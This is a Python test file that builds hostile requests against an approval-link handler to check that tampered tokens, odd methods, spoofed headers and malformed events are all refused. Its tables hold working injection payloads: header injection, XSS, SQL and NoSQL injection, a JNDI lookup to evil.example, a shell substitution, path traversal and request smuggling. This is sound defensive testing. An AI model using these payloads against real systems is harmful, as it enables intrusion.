"""Which requests try another door? Tokens, methods, headers, scanners and odd events."""

from typing import Any

from tests.hostile.stand import (
    COOKIE,
    MARK,
    NONCE,
    TOKEN,
    Case,
    Event,
    form,
    post,
    visit,
    without,
)
from trimtab.flows.decide import MAX_TOKEN, token_hash

TOKENS: dict[str, str] = {
    "empty": "",
    "unknown": f"{MARK}-unknown",
    "one shorter": TOKEN[:-1],
    "one longer": f"{TOKEN}A",
    "one other": f"{TOKEN[:-1]}B",
    "in capitals": TOKEN.upper(),
    "reversed": TOKEN[::-1],
    "twice": TOKEN * 2,
    "its hash": token_hash(TOKEN),
    "a space behind": f"{TOKEN} ",
    "a space before": f" {TOKEN}",
    "an escaped space": f"{TOKEN}%20",
    "a line break": f"{TOKEN}\n",
    "header injection": f"{TOKEN}\r\nSet-Cookie: {MARK}=1",
    "escaped header injection": f"{TOKEN}%0d%0aSet-Cookie:%20{MARK}=1",
    "a null": f"{TOKEN}\0",
    "an escaped null": f"{TOKEN}%00",
    "a slash": f"{TOKEN}/",
    "an escaped slash": f"{TOKEN}%2f",
    "slashes escaped twice": f"%252f{TOKEN}",
    "up and down": f"../a/{TOKEN}",
    "escaped up and down": f"..%2fa%2f{TOKEN}",
    "windows up": f"..\\{TOKEN}",
    "a semicolon": f"{TOKEN};jsessionid={MARK}",
    "a question mark": f"{TOKEN}?x={MARK}",
    "a fragment": f"{TOKEN}#{MARK}",
    "a dot": f"{TOKEN}.",
    "an extension": f"{TOKEN}.json",
    "padding": f"{TOKEN}==",
    "a star": "*",
    "a template": "{token}",
    "a percent": "%",
    "markup": f"<script>{MARK}</script>",
    "an attribute": f'"><img src=x onerror={MARK}>',
    "a query": f"' OR '1'='1' -- {MARK}",
    "a filter": '{"$ne": null}',
    "a key of the table": f"link#{token_hash(TOKEN)}",
    "a lookup": "${jndi:ldap://evil.example/" + MARK + "}",
    "a shell": f"$(touch {MARK})",
    "full width letters": TOKEN.replace("z", "\uff5a"),
    "look-alike letters": TOKEN.replace("a", "\u0430"),
    "combining marks": f"{TOKEN}\u0301",
    "invisible characters": f"{TOKEN}\u200b",
    "direction marks": f"\u202e{TOKEN}",
    "a lone surrogate": f"{TOKEN}\ud800",
    "only a lone surrogate": "\udfff",
    "an emoji": "\U0001f511" + MARK,
    "overlong UTF-8": f"{TOKEN}%c0%ae",
    "as long as may be": "x" * MAX_TOKEN,
    "one too long": "x" * (MAX_TOKEN + 1),
    "of a hundred thousand": MARK * 25_000,
    "of wide characters": "\u6f22" * 99,
}

NAMES = (
    "OPTIONS PUT PATCH DELETE TRACE CONNECT TRACK DEBUG PURGE LINK UNLINK COPY MOVE LOCK UNLOCK "
    "PROPFIND SEARCH QUERY REPORT get post Post pOST head POSTX GETPOST GET,POST *"
)
METHODS = NAMES.split()

ODD_METHODS: dict[str, Any] = {
    "empty": "",
    "with a space behind": "POST ",
    "with a space before": " POST",
    "with a null": "POST\0",
    "of markup": f"<b>{MARK}</b>",
    "of a line break": f"POST\r\nX-{MARK}: 1",
    "very long": "P" * 10_000,
    "a number": 1,
    "true": True,
    "a list": ["POST"],
    "a mapping": {"POST": 1},
    "a lone surrogate": "\ud800",
}

OVERRIDES: dict[str, dict[str, str]] = {
    "method override": {"x-http-method-override": "POST"},
    "method": {"x-http-method": "POST"},
    "method of another kind": {"x-method-override": "POST"},
    "original method": {"x-original-method": "POST"},
    "forwarded method": {"x-forwarded-method": "POST"},
    "original address": {"x-original-url": f"/a/{TOKEN}?decision=approve"},
    "rewritten address": {"x-rewrite-url": f"/a/{TOKEN}?decision=approve"},
}

HEADERS: dict[str, dict[str, str]] = {
    "prefetch": {"purpose": "prefetch"},
    "prefetch, new": {"sec-purpose": "prefetch"},
    "prerender": {"sec-purpose": "prefetch;prerender"},
    "prefetch, mozilla": {"x-moz": "prefetch"},
    "preview": {"x-purpose": "preview"},
    "link preview bot": {"user-agent": f"Slackbot-LinkExpanding 1.0 {MARK}"},
    "mail scanner": {"user-agent": f"BarracudaCentral {MARK}"},
    "crawler": {"user-agent": f"Googlebot/2.1 {MARK}"},
    "no user agent": {"user-agent": ""},
    "host of another": {"host": f"{MARK}.evil.example"},
    "host with a port": {"host": f"approve.test:{MARK}"},
    "host with a line break": {"host": f"approve.test\r\nX-{MARK}: 1"},
    "host twice": {"host": f"approve.test,{MARK}.evil.example"},
    "forwarded host": {"x-forwarded-host": f"{MARK}.evil.example"},
    "forwarded": {"forwarded": f"host={MARK}.evil.example;proto=http"},
    "forwarded protocol": {"x-forwarded-proto": "javascript"},
    "forwarded prefix": {"x-forwarded-prefix": f"//{MARK}.evil.example"},
    "foreign origin": {"origin": f"https://{MARK}.evil.example"},
    "null origin": {"origin": "null"},
    "cross-site navigation": {"sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate"},
    "framed": {"sec-fetch-dest": "iframe"},
    "as a script": {"sec-fetch-dest": "script", "accept": "*/*"},
    "as an image": {"accept": "image/avif,image/*"},
    "wants json": {"accept": "application/json"},
    "a range": {"range": "bytes=0-10"},
    "a condition": {"if-none-match": f'"{MARK}"', "if-modified-since": MARK},
    "an authorization": {"authorization": f"Bearer {MARK}"},
    "an approver by header": {"x-approver": f"{MARK}@example.com", "x-amzn-oidc-identity": MARK},
    "a debug wish": {"x-debug": "1", "x-amzn-trace-id": f"Root={MARK}"},
    "a language of markup": {"accept-language": f"<i>{MARK}</i>"},
    "a lookup": {"user-agent": "${jndi:ldap://evil.example/" + MARK + "}"},
    "a log line": {"user-agent": f'{MARK}\n{{"level":"INFO","message":"approved"}}'},
    "upgrade": {"upgrade": "h2c", "connection": "upgrade, http2-settings"},
    "smuggling": {"transfer-encoding": "chunked", "content-length": "0"},
    "a header of a megabyte": {f"x-{MARK}": "x" * 1_000_000},
    "a name with a line break": {f"x\r\nx-{MARK}": "1"},
    "a lone surrogate": {"user-agent": f"\ud800{MARK}"},
}

NO_CONTEXT = without(post(), "requestContext")
ODD: dict[str, tuple[Event, int]] = {
    "nothing": ({}, 405),
    "only a body": ({"body": form()}, 405),
    "no request context": (NO_CONTEXT, 405),
    "request context null": (NO_CONTEXT | {"requestContext": None}, 405),
    "request context a text": (post(requestContext=MARK), 405),
    "request context a list": (post(requestContext=["http"]), 405),
    "request context empty": (post(requestContext={}), 405),
    "http null": (post(requestContext={"http": None}), 405),
    "http a text": (post(requestContext={"http": "POST"}), 405),
    "no method": (post(requestContext={"http": {"path": MARK}}), 405),
    "method null": (post(requestContext={"http": {"method": None}}), 405),
    "payload of version 1": (NO_CONTEXT | {"httpMethod": "POST", "version": "1.0"}, 405),
    "of a load balancer": (NO_CONTEXT | {"requestContext": {"elb": {}}, "httpMethod": "POST"}, 405),
    "a queue's": ({"Records": [{"body": form(), "eventSource": "aws:sqs"}]}, 405),
    "no path parameters": (without(post(), "pathParameters"), 404),
    "path parameters null": (post() | {"pathParameters": None}, 404),
    "path parameters empty": (post(pathParameters={}), 404),
    "path parameters a text": (post(pathParameters=TOKEN), 404),
    "path parameters a list": (post(pathParameters=[TOKEN]), 404),
    "token null": (post(pathParameters={"token": None}), 404),
    "token a number": (post(pathParameters={"token": 7}), 404),
    "token true": (post(pathParameters={"token": True}), 404),
    "token a list": (post(pathParameters={"token": [TOKEN]}), 404),
    "token a mapping": (post(pathParameters={"token": {"S": TOKEN}}), 404),
    "token under another name": (post(pathParameters={"Token": TOKEN, "proxy": TOKEN}), 404),
    "token in the query only": (
        post(pathParameters={}, queryStringParameters={"token": TOKEN}),
        404,
    ),
    "no headers": (without(post(), "headers"), 400),
    "headers null": (post() | {"headers": None}, 400),
    "headers a text": (post() | {"headers": "content-type: x"}, 400),
    "headers a list": (post() | {"headers": [["content-type", MARK]]}, 400),
    "content type null": (post(headers={"content-type": None}), 400),
    "content type a list": (post(headers={"content-type": [MARK]}), 400),
    "headers of several values": (post() | {"headers": {}, "multiValueHeaders": {"a": ["b"]}}, 400),
    "no cookies": (without(post(), "cookies"), 400),
    "cookies null": (post() | {"cookies": None}, 400),
    "cookies a text": (post(cookies=COOKIE), 400),
    "cookies a mapping": (post(cookies={COOKIE: NONCE}), 400),
    "cookies a number": (post(cookies=7), 400),
    "cookies true": (post(cookies=True), 400),
    "cookies of nulls": (post(cookies=[None, None]), 400),
    "cookies of lists": (post(cookies=[[COOKIE]]), 400),
    "cookies of mappings": (post(cookies=[{"name": MARK}]), 400),
    "no body": (without(post(), "body"), 400),
    "body null": (post() | {"body": None}, 400),
    "body a number": (post() | {"body": 7}, 400),
    "body true": (post() | {"body": True}, 400),
    "body a list": (post() | {"body": [form()]}, 400),
    "body a mapping": (post() | {"body": {"nonce": NONCE, "decision": "approve"}}, 400),
    "base64 said in words": (post("%%" + MARK, isBase64Encoded="true"), 400),
    "base64 said by a number": (post("%%" + MARK, isBase64Encoded=1), 400),
    "base64 said by a list": (post("%%" + MARK, isBase64Encoded=["no"]), 400),
    "base64 of a number": (post() | {"body": 7, "isBase64Encoded": True}, 400),
}


def cases() -> list[Case]:
    """Return requests that may look, or are refused; none of them is a valid post."""
    found = [
        Case(name=f"token: {name}: {method}", event=visit(method, token=token), status=404)
        for name, token in TOKENS.items()
        for method in ("GET", "HEAD", "POST")
    ]
    methods = {m: m for m in METHODS} | ODD_METHODS
    found += [
        Case(name=f"method: {name!r}", event=post() | _context(method), status=405)
        for name, method in methods.items()
    ]
    for name, headers in {**OVERRIDES, **HEADERS}.items():
        looks = visit("GET", headers=headers, body=form(), rawQueryString=form())
        found.append(Case(name=f"looks: {name}", event=looks, status=200))
        scans = post(form(nonce=f"{MARK}-guess"), headers=headers, cookies=[])
        found.append(Case(name=f"scans: {name}", event=scans, status=400))
    found += [
        Case(name=f"overrides: {name}", event=_put(headers), status=405)
        for name, headers in OVERRIDES.items()
    ]
    found += [
        Case(name=f"event: {name}", event=event, status=status)
        for name, (event, status) in ODD.items()
    ]
    return found


def _context(method: Any) -> Event:
    return {"requestContext": {"http": {"method": method, "path": MARK}}}


def _put(headers: dict[str, str]) -> Event:
    return visit("PUT", headers=headers, body=form())
